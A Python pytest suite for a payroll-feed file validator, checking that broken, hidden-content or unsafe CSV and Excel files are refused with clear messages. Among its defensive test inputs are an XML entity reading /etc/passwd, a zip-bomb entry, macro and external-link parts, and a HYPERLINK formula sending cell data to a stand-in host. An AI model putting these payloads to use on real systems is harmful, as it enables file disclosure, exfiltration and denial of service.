"""Files that would lose rows, hide them or harm the reader: each gets one clear sentence."""

import os
import zipfile
from datetime import date

import openpyxl
import pytest
from openpyxl.utils.datetime import CALENDAR_MAC_1904, CALENDAR_WINDOWS_1900
from tests.unit.anye.sources.feed_files import (
    TODAY,
    checked,
    csv_bytes,
    csv_file,
    rows,
    workbook,
)

from anye.sources.check import check
from anye.sources.files.lines import BLOCK
from anye.sources.refusals import FileRefusedError
from anye.sources.terms import Checking, Limits
from anye.tables.contracts import CONTRACTS

FEED = "wage_months"
SMALL = Limits(text_megabytes=1, xlsx_megabytes=1, xlsx_seconds=10)


def refused(path, limits=SMALL):
    with pytest.raises(FileRefusedError) as caught:
        check(path, CONTRACTS[FEED], today=TODAY, into=path.parent / "into", terms=Checking(limits))
    assert caught.value.say("zh") != caught.value.say("en")
    assert not list((path.parent / "into").rglob("*.parquet"))
    return caught.value


def as_file(folder, content, name="feed.csv"):
    path = folder / name
    path.write_bytes(content)
    return path


RIGHT = csv_bytes(rows(FEED))
HEADINGS = RIGHT.split(b"\n")[0] + b"\n"
WHOLE_FILES = {
    "empty": b"",
    "header_only": HEADINGS,
    "too_large": RIGHT * 20_000,
    "not_a_feed": b"%PDF-1.4\n1 0 obj\n",
    "old_or_encrypted_excel": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
    "encoding_unknown": b"\xff\xe4,\x81\n1,2\n",
    "utf_16": RIGHT.decode().encode("utf-16"),
    "web_page": b"<html><head><meta charset='utf-8'></head><table></table></html>",
    "xml_table": b'<?xml version="1.0"?><Workbook xmlns='
    b'"urn:schemas-microsoft-com:office:spreadsheet"></Workbook>',
    "line_ends": RIGHT.replace(b",", b"\r,", 1),
    "separator": RIGHT.replace(b",", b";"),
    "parquet_damaged": b"PAR1" + bytes(100) + b"PAR1",
    "xlsx_damaged": b"PK\x03\x04" + bytes(100),
}


@pytest.mark.parametrize("refusal", WHOLE_FILES)
def test_a_file_that_is_no_feed_is_refused_by_name(tmp_path, refusal):
    assert refused(as_file(tmp_path, WHOLE_FILES[refusal])).refusal == refusal


def test_a_missing_file_is_told_by_its_name(tmp_path):
    assert "none.csv" in refused(tmp_path / "none.csv").say()


def test_a_pipe_is_told_as_what_it_is(tmp_path):
    os.mkfifo(tmp_path / "pipe.csv")
    assert refused(tmp_path / "pipe.csv").refusal == "no_plain_file"


def test_all_that_is_wrong_with_the_headings_is_told_at_once(tmp_path):
    headings = "月份,月份,统一社会信用代码,公民身份编号,姓名,部门\n"
    told = refused(as_file(tmp_path, (headings + ",,,,,\n").encode())).say()
    assert "缺少“公民身份号码”（“公民身份编号”可能就是它）" in told
    assert "缺少“应发工资”" in told
    assert "“月份”出现多次" in told
    assert "多出“部门”" in told


BROKEN_LINES = {
    "column_count": b"202503,extra" + RIGHT.split(b"\n")[1],
    "quoting": b'"' + RIGHT.split(b"\n")[1],
    "control_character": RIGHT.split(b"\n")[1].replace(b",", b",\x00", 1),
    "encoding": RIGHT.split(b"\n")[1] + b"\xff",
    "blank_line": b"",
    "line_too_long": RIGHT.split(b"\n")[1] + b"9" * (3 << 20),
}


@pytest.mark.parametrize("reason", BROKEN_LINES)
def test_a_broken_line_takes_no_other_line_with_it(tmp_path, reason):
    right = RIGHT.split(b"\n")[1] + b"\n"
    content = HEADINGS + right * 3 + BROKEN_LINES[reason] + b"\n" + right * 3
    found, accepted, rejected = checked(tmp_path, as_file(tmp_path, content), FEED)
    assert found.lines == 7
    assert len(accepted) == 6
    assert [(row["line"], row["reasons"]) for row in rejected] == [(5, f":{reason}")]
    assert len(rejected[0]["raw"]) <= 2000


@pytest.mark.parametrize("shift", range(4))
@pytest.mark.parametrize("encoding", ["utf-8", "gb18030"])
def test_an_endless_line_is_told_as_such_within_whichever_character_it_is_cut_off(
    tmp_path, encoding, shift
):
    headings, right = RIGHT.decode().encode(encoding).split(b"\n")[:2]
    letter = "长".encode(encoding)
    endless = right + b"9" * shift + letter * (2 * BLOCK // len(letter))
    content = b"\n".join([headings, right, endless, right, b""])
    found, accepted, rejected = checked(tmp_path, as_file(tmp_path, content), FEED)
    assert (found.lines, len(accepted)) == (3, 2)
    assert [(row["line"], row["reasons"]) for row in rejected] == [(3, ":line_too_long")]


def test_a_quoted_comma_is_no_new_column(tmp_path):
    made = rows("employers", {"单位名称": '"天津,某""某""公司"'}, {})
    _, accepted, rejected = checked(tmp_path, csv_file(tmp_path, made), "employers")
    assert rejected == []
    assert accepted[0]["employer_name"] == '天津,某"某"公司'


def test_gbk_lines_in_a_utf_8_file_are_rejected_one_by_one(tmp_path):
    gbk = csv_bytes(rows(FEED), "gbk").split(b"\n")[1] + b"\n"
    found, accepted, rejected = checked(tmp_path, as_file(tmp_path, RIGHT + gbk), FEED)
    assert (len(accepted), len(rejected)) == (1, 1)
    assert found.reasons == {"encoding": 1}


def saved(folder, book, name="feed.xlsx"):
    path = folder / name
    book.save(path)
    return path


def test_a_right_workbook_is_read_by_its_row_numbers(tmp_path):
    book, sheet = workbook(rows(FEED, {}, {"应发工资": 3500.55}, {"月份": 202504}))
    sheet.insert_rows(3)
    found, accepted, _ = checked(tmp_path, saved(tmp_path, book), FEED)
    assert [row["source_row"] % 2**32 for row in accepted] == [2, 4, 5]
    assert [row["wage"] for row in accepted] == [350_000, 350_055, 350_000]
    assert found.encoding == "xlsx"


def test_a_number_in_an_id_column_is_rejected_with_advice(tmp_path):
    book, _ = workbook(rows(FEED, {"公民身份号码": 120119199003072316}, {}))
    _, accepted, rejected = checked(tmp_path, saved(tmp_path, book), FEED)
    assert [row["reasons"] for row in rejected] == ["resident_id:id_as_number"]
    assert len(accepted) == 1


def test_a_formula_is_rejected_even_with_a_cached_value(tmp_path):
    book, _ = workbook(rows(FEED, {"应发工资": "=1000+2500"}, {}))
    _, accepted, rejected = checked(tmp_path, saved(tmp_path, book), FEED)
    assert [row["reasons"] for row in rejected] == ["wage:formula"]
    assert len(accepted) == 1


def merged(_, sheet):
    sheet.merge_cells("A2:A3")


def hidden_sheet(book, _):
    book.create_sheet("去年").append(["公民身份号码"])
    book["去年"].sheet_state = "veryHidden"


def second_sheet(book, _):
    book.create_sheet("二月").append(["公民身份号码"])


def hidden_row(_, sheet):
    sheet.row_dimensions[3].hidden = True


def hidden_column(_, sheet):
    sheet.column_dimensions["C"].hidden = True


def formula_in_headings(_, sheet):
    sheet["A1"] = '="月份"'


def far_cell(_, sheet):
    sheet["XFD2"] = "x"


def nothing(_, sheet):
    sheet.delete_rows(1, 5)


WORKBOOKS = {
    merged: "xlsx_merged_cells",
    hidden_sheet: "xlsx_hidden_sheets",
    second_sheet: "xlsx_several_sheets",
    hidden_row: "xlsx_hidden_rows",
    hidden_column: "xlsx_hidden_columns",
    formula_in_headings: "xlsx_formula_in_headings",
    far_cell: "headings",
    nothing: "empty",
}


@pytest.mark.parametrize("change", WORKBOOKS, ids=lambda change: change.__name__)
def test_what_a_workbook_hides_or_merges_is_refused(tmp_path, change):
    book, sheet = workbook(rows(FEED, {}, {"月份": "202504"}))
    change(book, sheet)
    assert refused(saved(tmp_path, book)).refusal == WORKBOOKS[change]


def changed(source, target, edit):
    """Write a workbook anew with its parts changed."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        parts = {entry: old.read(entry) for entry in old.namelist()}
        for name, content in edit(parts).items():
            new.writestr(name, content)
    return target


SHEET = "xl/worksheets/sheet1.xml"


def within(old, new):
    return lambda parts: parts | {SHEET: parts[SHEET].replace(old, new, 1)}


def extra(name, content=b"<x/>"):
    return lambda parts: parts | {name: content}


ENTITY = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
EDITED = {
    "dtd": (lambda parts: parts | {SHEET: ENTITY + parts[SHEET]}, "xlsx_dtd"),
    "dtd in a part nobody reads": (extra("docProps/custom.xml", ENTITY + b"<x/>"), "xlsx_dtd"),
    "utf-16 part": (extra("xl/extra.xml", "<!DOCTYPE x>".encode("utf-16")), "xlsx_damaged"),
    "macro": (extra("xl/vbaProject.bin"), "xlsx_macros"),
    "embedded": (extra("xl/embeddings/oleObject1.bin"), "xlsx_macros"),
    "external link": (extra("xl/externalLinks/externalLink1.xml"), "xlsx_external_links"),
    "connection": (extra("xl/connections.xml"), "xlsx_external_links"),
    "row twice": (within(b'<row r="3"', b'<row r="2"'), "xlsx_damaged"),
    "cell twice": (within(b'<c r="B2"', b'<c r="A2"'), "xlsx_damaged"),
    "cell of another row": (within(b'<c r="A3"', b'<c r="A9"'), "xlsx_damaged"),
    "no workbook": (
        lambda parts: {name: part for name, part in parts.items() if "workbook.xml" not in name},
        "xlsx_damaged",
    ),
    "bomb": (extra("xl/media/image1.png", bytes(150 << 20)), "xlsx_too_big_inside"),
    "many parts": (
        lambda parts: parts | {f"xl/media/{n}.png": b"" for n in range(1000)},
        "xlsx_too_big_inside",
    ),
}


@pytest.mark.parametrize("kind", EDITED)
def test_an_unsafe_workbook_is_refused_before_any_reader_sees_it(tmp_path, kind):
    book, _ = workbook(rows(FEED, {}, {"月份": "202504"}))
    edit, refusal = EDITED[kind]
    path = changed(saved(tmp_path, book), tmp_path / "edited.xlsx", edit)
    assert refused(path).refusal == refusal


def test_overlapping_entries_are_refused(tmp_path):
    path = saved(tmp_path, workbook(rows(FEED))[0])
    content = bytearray(path.read_bytes())
    directory = content.index(b"PK\x01\x02")
    second = content.index(b"PK\x01\x02", directory + 4)
    content[second + 42 : second + 46] = content[directory + 42 : directory + 46]
    assert refused(as_file(tmp_path, bytes(content), "overlap.xlsx")).refusal == "xlsx_damaged"


def test_a_wrong_dimension_loses_no_row(tmp_path):
    book, _ = workbook(rows(FEED, *({"应发工资": str(n)} for n in range(50))))
    edit = within(b'<dimension ref="A1:E51"', b'<dimension ref="A1:B2"')
    path = changed(saved(tmp_path, book), tmp_path / "edited.xlsx", edit)
    with zipfile.ZipFile(path) as archive:
        assert b"A1:B2" in archive.read(SHEET)
    _, accepted, _ = checked(tmp_path, path, FEED)
    assert len(accepted) == 50


def test_a_reader_that_dies_is_only_a_message(tmp_path):
    book, sheet = workbook(rows(FEED))
    sheet["A1000000"] = "x"
    starved = Limits(xlsx_memory_megabytes=60)
    assert refused(saved(tmp_path, book), starved).refusal == "xlsx_too_heavy"


def test_a_workbook_that_takes_too_long_is_stopped(tmp_path):
    book, _ = workbook(rows(FEED))
    assert refused(saved(tmp_path, book), Limits(xlsx_seconds=0)).refusal == "xlsx_too_heavy"


def test_a_workbook_of_formulas_that_call_out_computes_nothing(tmp_path):
    payload = '=HYPERLINK("http://example.invalid/"&A1,"x")'
    book, _ = workbook(rows("labour_contracts", {"岗位": payload}))
    _, _, rejected = checked(tmp_path, saved(tmp_path, book), "labour_contracts")
    assert [row["reasons"] for row in rejected] == ["post:formula"]


def test_templates_hold_no_row_and_are_told_so(tmp_path):
    from anye.sources.handed_out.templates import write_template  # noqa: PLC0415 (one test)

    path = tmp_path / "template.xlsx"
    write_template(CONTRACTS[FEED], path)
    assert refused(path).refusal == "header_only"
    assert openpyxl.load_workbook(path).sheetnames == ["工资薪金月", "填写说明"]


def test_a_month_that_excel_made_a_day_is_that_month(tmp_path):
    book, _ = workbook(rows(FEED, {"月份": date(2025, 3, 1)}, {"月份": date(2025, 3, 2)}))
    _, accepted, rejected = checked(tmp_path, saved(tmp_path, book), FEED)
    assert [row["month"] for row in accepted] == [202503]
    assert [row["reasons"] for row in rejected] == ["month:month_form"]


@pytest.mark.parametrize("epoch", [CALENDAR_WINDOWS_1900, CALENDAR_MAC_1904])
def test_days_of_either_calendar_are_the_days_shown(tmp_path, epoch):
    made = rows("labour_contracts", {"开始日期": date(2024, 2, 29), "约定终止日期": "2026/12/31"})
    book, _ = workbook(made)
    book.epoch = epoch
    _, (contract,), _ = checked(tmp_path, saved(tmp_path, book), "labour_contracts")
    assert contract["starts_on"] == date(2024, 2, 29)
    assert contract["ends_on"] == date(2026, 12, 31)


def test_a_blank_row_of_a_workbook_is_told_as_such(tmp_path):
    book, sheet = workbook(rows(FEED))
    sheet.append([" ", None, "x"])
    sheet["C3"] = " "
    _, _, rejected = checked(tmp_path, saved(tmp_path, book), FEED)
    assert [row["line"] for row in rejected] == [3]


@pytest.mark.parametrize("place", [0, 2, 5])
@pytest.mark.parametrize("ending", ["csv", "xlsx"])
@pytest.mark.parametrize(("values", "refusal"), [("", None), ("已离职", "values_without_heading")])
def test_nothing_that_stands_under_no_heading_is_left_unread(
    tmp_path, place, ending, values, refusal
):
    made = []
    for row in rows(FEED, {}, {}):
        items = [*row.items()]
        made.append(dict([*items[:place], ("", values if made else ""), *items[place:]]))
    path = tmp_path / f"feed.{ending}"
    if ending == "csv":
        path.write_bytes(csv_bytes(made))
    else:
        saved(tmp_path, workbook(made)[0])
    if refusal:
        told = refused(path)
        assert (told.refusal, told.details["column"]) == (refusal, place + 1)
    else:
        assert checked(tmp_path, path, FEED)[0].accepted == 2


def test_values_beyond_the_last_heading_are_not_left_unread(tmp_path):
    book, sheet = workbook(rows(FEED))
    sheet["H3"] = "见附件"
    told = refused(saved(tmp_path, book))
    assert (told.refusal, told.details["column"]) == ("values_without_heading", 8)


def with_help(tmp_path, *lines):
    from anye.sources.handed_out.templates import write_template  # noqa: PLC0415 (some tests)

    path = tmp_path / "feed.xlsx"
    write_template(CONTRACTS[FEED], path)
    book = openpyxl.load_workbook(path)
    for row in rows(FEED):
        book[CONTRACTS[FEED].zh].append(list(row.values()))
    for line in lines:
        book["填写说明"].append(line)
    return saved(tmp_path, book)


def test_the_help_beside_a_template_is_passed_over(tmp_path):
    assert checked(tmp_path, with_help(tmp_path, ["填表人：李四"]), FEED)[0].accepted == 1


def test_rows_written_into_the_help_are_not_left_unread(tmp_path):
    path = with_help(tmp_path, list(rows(FEED)[0].values()))
    assert refused(path).refusal == "xlsx_several_sheets"


NO_WORKBOOKS = {
    "archive": [("wage_months.csv", RIGHT)],
    "open_document": [("mimetype", b"application/vnd.oasis"), ("content.xml", b"<x/>")],
    "xlsx_damaged": [("xl/workbook.xml", b"<x/>")],
}


@pytest.mark.parametrize("refusal", NO_WORKBOOKS)
def test_an_archive_that_is_no_workbook_is_told_as_what_it_is(tmp_path, refusal):
    path = tmp_path / "feed.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in NO_WORKBOOKS[refusal]:
            archive.writestr(name, content)
    assert refused(path).refusal == refusal


def test_a_workbook_of_a_wrong_checksum_is_damaged_and_not_too_heavy(tmp_path):
    path = saved(tmp_path, workbook(rows(FEED))[0])
    content = path.read_bytes()
    at = content.index(b"xl/worksheets/sheet1.xml") + 60
    path.write_bytes(content[:at] + bytes([content[at] ^ 0xFF]) + content[at + 1 :])
    assert refused(path).refusal == "xlsx_damaged"
